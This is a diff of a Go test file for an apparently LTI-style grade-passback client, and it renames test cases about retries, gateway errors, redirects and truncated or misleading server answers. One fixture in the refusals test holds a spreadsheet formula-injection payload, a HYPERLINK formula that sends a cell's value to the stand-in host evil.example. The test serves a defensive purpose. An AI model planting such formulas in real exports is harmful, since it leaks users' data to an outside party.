@@ -39,21 +39,21 @@ func TestAnswers(t *testing.T) {
 		want    string
 		patches int // that the server saw
 	}{
-		{"case 11: a burst of troubles", []string{"500", "503"}, 2, "2 updated 200 3", 3},
-		{"case 11: no one behind the gateway", []string{"502"}, 1, "2 updated 200 2", 2},
-		{"case 11: too slow for the gateway", []string{"504"}, 1, "2 updated 200 2", 2},
-		{"case 11: more of it than retries", []string{"*502"}, 1, "2 failed 502 2 … so ended the last of 2 attempts … 502 Bad Gateway", 2},
-		{"case 11: no retries", []string{"*500"}, 0, "2 failed 500 1 … the server is in trouble … failure, error, internal_server_error", 1},
-		{"case 13: the answer is lost once", []string{"lost"}, 3, "2 updated 200 2", 2},
+		{"a burst of troubles", []string{"500", "503"}, 2, "2 updated 200 3", 3},
+		{"no one behind the gateway", []string{"502"}, 1, "2 updated 200 2", 2},
+		{"too slow for the gateway", []string{"504"}, 1, "2 updated 200 2", 2},
+		{"more of it than retries", []string{"*502"}, 1, "2 failed 502 2 … so ended the last of 2 attempts … 502 Bad Gateway", 2},
+		{"no retries", []string{"*500"}, 0, "2 failed 500 1 … the server is in trouble … failure, error, internal_server_error", 1},
+		{"the answer is lost once", []string{"lost"}, 3, "2 updated 200 2", 2},
 		// An answer that is lost on a connection which was used before cannot be told
-		// from a connection that had been closed (case 12), which costs no retry.
-		{"case 13: the answer is lost for ever", []string{"*lost"}, 2, "2 unknown 0 4 … no usable answer … so ended the last of 4 attempts", 4},
-		{"case 13: lost, then in trouble for ever", []string{"lost", "*500"}, 1, "2 unknown 500 3 … so ended the last of 3 attempts", 3},
-		{"case 33: a redirect", []string{"redirect"}, 3, "2 failed 302 1 … redirects to \"/elsewhere\" … not followed", 1},
-		{"case 35: a web page", []string{"html"}, 3, "2 failed 200 1 … web page instead of JSON … Please sign in", 1},
-		{"case 35: cut short once", []string{"cut"}, 3, "2 updated 200 2", 2},
-		{"case 35: cut short for ever", []string{"*cut"}, 1, "2 unknown 200 2 the answer, a 200, was cut short; so ended the last of 2 attempts", 2},
-		{"promise 2: a 200 that says failure", []string{"failure"}, 3, "2 failed 200 1 … 200, but its body says failure … failure, error, internal_server_error, the record was not stored", 1},
+		// from a connection that had been closed, which costs no retry.
+		{"the answer is lost for ever", []string{"*lost"}, 2, "2 unknown 0 4 … no usable answer … so ended the last of 4 attempts", 4},
+		{"lost, then in trouble for ever", []string{"lost", "*500"}, 1, "2 unknown 500 3 … so ended the last of 3 attempts", 3},
+		{"a redirect", []string{"redirect"}, 3, "2 failed 302 1 … redirects to \"/elsewhere\" … not followed", 1},
+		{"a web page", []string{"html"}, 3, "2 failed 200 1 … web page instead of JSON … Please sign in", 1},
+		{"cut short once", []string{"cut"}, 3, "2 updated 200 2", 2},
+		{"cut short for ever", []string{"*cut"}, 1, "2 unknown 200 2 the answer, a 200, was cut short; so ended the last of 2 attempts", 2},
+		{"a 200 that says failure", []string{"failure"}, 3, "2 failed 200 1 … 200, but its body says failure … failure, error, internal_server_error, the record was not stored", 1},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -77,7 +77,7 @@ func TestAnswers(t *testing.T) {
 	}
 }
 
-// Case 2, with all the spellings of what the server says, and statuses that no
+// With all the spellings of what the server says, and statuses that no
 // retry mends.
 func TestRefusals(t *testing.T) {
 	const fields = `"imsx_codeMajor":"failure","imsx_severity":"error","imsx_description":"no such enrollment"`
@@ -100,7 +100,7 @@ func TestRefusals(t *testing.T) {
 		{"gone", 410, asJSON, `{}`, "2 failed 410 1"},
 		{"too large", 413, asJSON, `{}`, "2 failed 413 1"},
 		{"not implemented", 501, asJSON, `{}`, "2 failed 501 1"},
-		{"case 38: a formula", 404, asJSON, `{"imsx_codeMajor":"=1+1","imsx_severity":"@SUM(A1)","imsx_description":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")","imsx_CodeMinor":"+1","imsx_error_details":"-2"}`,
+		{"a formula", 404, asJSON, `{"imsx_codeMajor":"=1+1","imsx_severity":"@SUM(A1)","imsx_description":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")","imsx_CodeMinor":"+1","imsx_error_details":"-2"}`,
 			`2 failed 404 1 … =1+1, @SUM(A1), +1, =HYPERLINK("http://evil.example/?"&A1,"click")`},
 	}
 	for _, tt := range tests {
@@ -133,7 +133,7 @@ func TestRefusals(t *testing.T) {
 	}
 }
 
-// Case 33, and the 200 that waits at the end of each redirect.
+// And the 200 that waits at the end of each redirect.
 func TestRedirects(t *testing.T) {
 	for _, status := range []int{300, 301, 302, 303, 304, 307, 308} {
 		t.Run(fmt.Sprint(status), func(t *testing.T) {
@@ -157,7 +157,7 @@ func TestRedirects(t *testing.T) {
 	}
 }
 
-// Case 35: bodies that lie about what they are, or about their length.
+// Bodies that lie about what they are, or about their length.
 func TestLyingAnswers(t *testing.T) {
 	tests := []struct {
 		name  string
